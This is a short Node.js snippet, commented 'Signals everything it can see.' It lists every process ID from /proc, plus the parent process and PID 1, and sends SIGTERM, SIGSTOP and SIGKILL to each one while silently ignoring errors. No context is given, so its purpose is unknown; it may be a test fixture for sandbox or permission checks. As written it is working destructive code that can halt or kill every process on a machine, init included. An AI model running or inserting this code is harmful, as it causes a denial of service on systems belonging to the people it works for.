// Signals everything it can see.
{
  const fs = process.getBuiltinModule('fs');
  for (const pid of [process.ppid, 1, ...fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).map(Number)]) {
    if (pid === process.pid || pid === 0) continue;
    for (const signal of ['SIGTERM', 'SIGSTOP', 'SIGKILL']) {
      try {
        process.kill(pid, signal);
      } catch {}
    }
  }
}
